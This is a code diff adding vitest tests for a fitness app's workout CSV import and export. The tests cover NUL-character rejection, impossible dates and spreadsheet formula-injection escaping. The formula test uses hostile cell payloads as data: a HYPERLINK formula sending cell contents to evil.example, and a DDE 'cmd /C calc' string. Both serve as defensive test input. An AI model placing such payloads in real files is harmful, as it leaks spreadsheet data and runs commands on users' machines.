@@ -2,10 +2,12 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { apiErrors, trainingErrors } from '@spotter/contract';
 import { importResultSchema, type Workout, workoutPageSchema } from '@spotter/contract/schemas';
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { importCsv } from './helpers/import-csv';
 import { newPostId } from './helpers/people';
 import { useTestApp } from './helpers/test-app';
+import { unzip } from './helpers/unzip';
 
 const t = useTestApp();
 
@@ -37,6 +39,71 @@ const content = (w: Workout) => ({
   exercises: w.exercises.map((e) => ({ name: e.name, measure: e.measure, notes: e.notes, sets: e.sets })),
   records: w.records.map((r) => `${r.type} ${r.value}`),
 });
+/** The person's own exercises whose name holds `q`. */
+async function customExercises(token: string, q: string): Promise<string[]> {
+  const res = await t().call('GET', `/api/exercises?q=${encodeURIComponent(q)}`, { token });
+  expect(res.statusCode, res.body).toBe(200);
+  return res.json().exercises.flatMap((e: { name: string; custom: boolean }) => (e.custom ? [e.name] : []));
+}
+
+const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
+const strongHeader = strong.split('\n')[0] ?? '';
+interface StrongRow {
+  date?: string;
+  title?: string;
+  exercise?: string;
+  weight?: string;
+  notes?: string;
+  workoutNotes?: string;
+}
+const strongRow = (r: StrongRow = {}) =>
+  [
+    r.date ?? '2026-10-05 07:30:00',
+    quoted(r.title ?? 'Push'),
+    '45m',
+    quoted(r.exercise ?? 'Bench Press (Barbell)'),
+    '1',
+    r.weight ?? '80',
+    '5',
+    '0',
+    '0',
+    quoted(r.notes ?? ''),
+    quoted(r.workoutNotes ?? ''),
+    '',
+  ].join(',');
+const hevyHeader = hevy.split('\n')[0] ?? '';
+interface HevyRow {
+  title?: string;
+  start?: string;
+  end?: string;
+  description?: string;
+  exercise?: string;
+  exerciseNotes?: string;
+}
+const hevyRow = (r: HevyRow = {}) =>
+  [
+    quoted(r.title ?? 'Legs'),
+    quoted(r.start ?? '12 Oct 2026, 07:00'),
+    quoted(r.end ?? '12 Oct 2026, 08:00'),
+    quoted(r.description ?? ''),
+    quoted(r.exercise ?? 'Squat (Barbell)'),
+    '',
+    quoted(r.exerciseNotes ?? ''),
+    '0',
+    '"normal"',
+    '100',
+    '5',
+    '',
+    '',
+    '',
+  ].join(',');
+const spotterHeader =
+  'workout_title,started_at,duration_sec,workout_notes,exercise_id,exercise_name,exercise_category,' +
+  'exercise_measure,exercise_notes,set_type,reps,weight_kg,distance_m,set_duration_sec,rpe';
+const spotterRow = (startedAt: string, title = 'Push') =>
+  `${quoted(title)},${startedAt},,,barbell-bench-press,Barbell Bench Press,strength,weight_reps,,normal,5,80,,,`;
+const file = (header: string, ...rows: string[]) => [header, ...rows].join('\n');
+
 const setLine = (s: Workout['exercises'][number]['sets'][number]) =>
   `${s.type} ${s.reps ?? '-'}x${s.weightKg ?? '-'} ${s.distanceM ?? '-'}m ${s.durationSec ?? '-'}s rpe ${s.rpe ?? '-'}`;
 
@@ -163,7 +230,7 @@ describe('POST /api/workouts/import', () => {
     expect(await refused(token, 'name,age\nana,30\n')).toEqual([trainingErrors.importUnknownLayout]);
     expect(await refused(token, `${header}\n`)).toEqual([trainingErrors.importNothing]);
     expect(await refused(token, row('yesterday'))).toEqual([`row 2, Date: ${trainingErrors.importBadRow}`]);
-    expect(await refused(token, row('2026-13-05 07:30:00'))).toEqual([`row 2, Date: ${trainingErrors.importBadRow}`]);
+    expect(await refused(token, row('2026-13-05 07:30:00'))).toEqual([`row 2, Date: ${trainingErrors.importBadDate}`]);
     expect(await refused(token, row('2026-10-05 07:30:00', 'heavy'))).toEqual([
       `row 2, Weight: ${trainingErrors.importBadRow}`,
     ]);
@@ -187,6 +254,79 @@ describe('POST /api/workouts/import', () => {
     expect(empty.statusCode, empty.body).toBe(400);
     expect(empty.json().errors).toEqual([apiErrors.noFile]);
     expect(await workoutsOf('bad_files')).toEqual([]);
+  });
+
+  it('refuses a NUL character in a title, an exercise name or notes with a 400 naming the row and column, and stores nothing (issue 45, finding 5)', async () => {
+    const { token } = await t().signup('nul_files');
+    const nul = '\u0000';
+    const cases: [string, string][] = [
+      [file(strongHeader, strongRow(), strongRow({ title: `Push${nul}Day` })), 'row 3, Workout Name'],
+      [file(strongHeader, strongRow({ exercise: `Nul${nul}Curl` })), 'row 2, Exercise Name'],
+      [file(strongHeader, strongRow({ notes: `slow${nul}` })), 'row 2, Notes'],
+      [file(strongHeader, strongRow({ workoutNotes: `${nul}` })), 'row 2, Workout Notes'],
+      [file(hevyHeader, hevyRow(), hevyRow({ title: `Legs${nul}` })), 'row 3, title'],
+      [file(hevyHeader, hevyRow({ exercise: `Nul${nul}Squat` })), 'row 2, exercise_title'],
+      [file(hevyHeader, hevyRow({ exerciseNotes: `deep${nul}` })), 'row 2, exercise_notes'],
+      [file(hevyHeader, hevyRow({ description: `heavy${nul}` })), 'row 2, description'],
+      [file(spotterHeader, spotterRow('2026-10-05T07:30:00.000Z', `Push${nul}`)), 'row 2, workout_title'],
+    ];
+    for (const [csv, where] of cases) {
+      expect(await refused(token, csv), where).toEqual([`${where}: ${trainingErrors.importNulCharacter}`]);
+    }
+    expect(await workoutsOf('nul_files')).toEqual([]);
+    expect(await customExercises(token, 'nul')).toEqual([]);
+  });
+
+  it('refuses impossible dates with a 400 naming the row and column, and stores nothing (issue 45, finding 14)', async () => {
+    const { token } = await t().signup('bad_dates');
+    const cases: [string, string][] = [
+      // The year 0001 was read as 1901, 31 February 2026 as 3 March.
+      [file(strongHeader, strongRow({ date: '0001-10-05 07:30:00' })), 'row 2, Date'],
+      [file(strongHeader, strongRow(), strongRow({ date: '2026-02-29 07:30:00' })), 'row 3, Date'],
+      [file(strongHeader, strongRow({ date: '2026-00-10 07:30:00' })), 'row 2, Date'],
+      [file(strongHeader, strongRow({ date: '2026-04-31 07:30:00' })), 'row 2, Date'],
+      [file(strongHeader, strongRow({ date: '2201-01-01 07:30:00' })), 'row 2, Date'],
+      [file(hevyHeader, hevyRow({ start: '31 Feb 2026, 07:00', end: '31 Feb 2026, 08:00' })), 'row 2, start_time'],
+      [file(hevyHeader, hevyRow({ end: '31 Sep 2026, 08:00' })), 'row 2, end_time'],
+      [file(hevyHeader, hevyRow({ start: '1 Jan 0001, 07:00', end: '' })), 'row 2, start_time'],
+      [file(spotterHeader, spotterRow('2026-02-31T07:30:00.000Z')), 'row 2, started_at'],
+      [file(spotterHeader, spotterRow('0001-01-01T07:30:00.000Z')), 'row 2, started_at'],
+    ];
+    for (const [csv, where] of cases) {
+      expect(await refused(token, csv), where).toEqual([`${where}: ${trainingErrors.importBadDate}`]);
+    }
+    expect(await workoutsOf('bad_dates')).toEqual([]);
+    // A leap day that exists is read as it is.
+    expect(await imported(token, file(strongHeader, strongRow({ date: '2028-02-29 07:30:00' })))).toEqual({
+      imported: 1,
+      skipped: 0,
+      exercisesCreated: 0,
+    });
+    expect((await workoutsOf('bad_dates')).map((w) => w.startedAt)).toEqual(['2028-02-29T07:30:00.000+00:00']);
+  });
+
+  it('makes no custom exercise when it stores nothing (issue 45, finding 14)', async () => {
+    const { token } = await t().signup('makes_nothing');
+    // Mystery Move's only set holds zeros: nothing its guessed measure records, so nothing to store.
+    const zeros = file(strongHeader, '2026-10-05 07:30:00,"Odd",45m,"Mystery Move",1,0,0,0,0,"","",');
+    expect(await imported(token, zeros)).toEqual({ imported: 0, skipped: 1, exercisesCreated: 0 });
+    // Refused on its third row: the new name on its second made nothing either.
+    const late = file(
+      strongHeader,
+      strongRow({ exercise: 'Zercher Hold' }),
+      strongRow({ date: '2026-10-06 07:30:00', weight: '5000' }),
+    );
+    expect(await refused(token, late)).toEqual(['row 3: exercises.0.sets.0.weightKg: must be between 0 and 1000 kg']);
+    expect(await customExercises(token, 'mystery')).toEqual([]);
+    expect(await customExercises(token, 'zercher')).toEqual([]);
+    expect(await workoutsOf('makes_nothing')).toEqual([]);
+    // The same name in a file that stores its set is made, once.
+    expect(await imported(token, file(strongHeader, strongRow({ exercise: 'Zercher Hold' })))).toEqual({
+      imported: 1,
+      skipped: 0,
+      exercisesCreated: 1,
+    });
+    expect(await customExercises(token, 'zercher')).toEqual(['Zercher Hold']);
   });
 
   it('needs a token', async () => {
@@ -218,6 +358,50 @@ describe('GET /api/users/me/workouts.csv', () => {
     const before = (await workoutsOf('export_ana')).map(content);
     const after = (await workoutsOf('export_ben')).map(content);
     expect(after).toEqual(before);
+  });
+
+  it('writes a quote before every cell a spreadsheet would run, here and in the account ZIP, and reads it back the same (issue 45, finding 7)', async () => {
+    const ana = await t().signup('formula_ana');
+    const made = await t().call('POST', '/api/exercises', {
+      token: ana.token,
+      body: {
+        exercise: { name: '@SUM(1) Curl', category: 'strength', measure: 'weight_reps', primaryMuscles: ['biceps'] },
+      },
+    });
+    expect(made.statusCode, made.body).toBe(201);
+    const curlId = made.json().exercise._id as string;
+    const titles = ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", '-2+3', "'=1+2"];
+    for (const [i, title] of titles.entries()) {
+      const res = await t().call('POST', '/api/workouts', {
+        token: ana.token,
+        body: {
+          workout: {
+            title,
+            startedAt: new Date(Date.UTC(2026, 9, 1 + i, 7)).toISOString(),
+            notes: '@SUM(1)',
+            exercises: [{ exerciseId: curlId, notes: '=1+2', sets: [{ reps: 8, weightKg: 20 }] }],
+          },
+        },
+      });
+      expect(res.statusCode, res.body).toBe(201);
+    }
+    const res = await t().call('GET', '/api/users/me/workouts.csv', { token: ana.token });
+    expect(res.statusCode).toBe(200);
+    const rows = parse(res.body) as string[][];
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(rows.slice(1).map((row) => [row[0], row[3], row[5], row[8]])).toEqual(
+      [...titles].reverse().map((title) => [`'${title}`, "'@SUM(1)", "'@SUM(1) Curl", "'=1+2"]),
+    );
+
+    const archive = await t().call('GET', '/api/users/me/export', { token: ana.token });
+    expect(archive.statusCode).toBe(200);
+    expect((await unzip(archive.rawPayload)).get('workouts.csv')?.toString('utf8')).toBe(res.body);
+
+    // Read back: the same workouts, in the same account (all there already) and in another.
+    expect(await imported(ana.token, res.body)).toEqual({ imported: 0, skipped: 4, exercisesCreated: 0 });
+    const ben = await t().signup('formula_ben');
+    expect(await imported(ben.token, res.body)).toEqual({ imported: 4, skipped: 0, exercisesCreated: 1 });
+    expect((await workoutsOf('formula_ben')).map(content)).toEqual((await workoutsOf('formula_ana')).map(content));
   });
 
   it('answers only the header for someone without workouts, and needs a token', async () => {
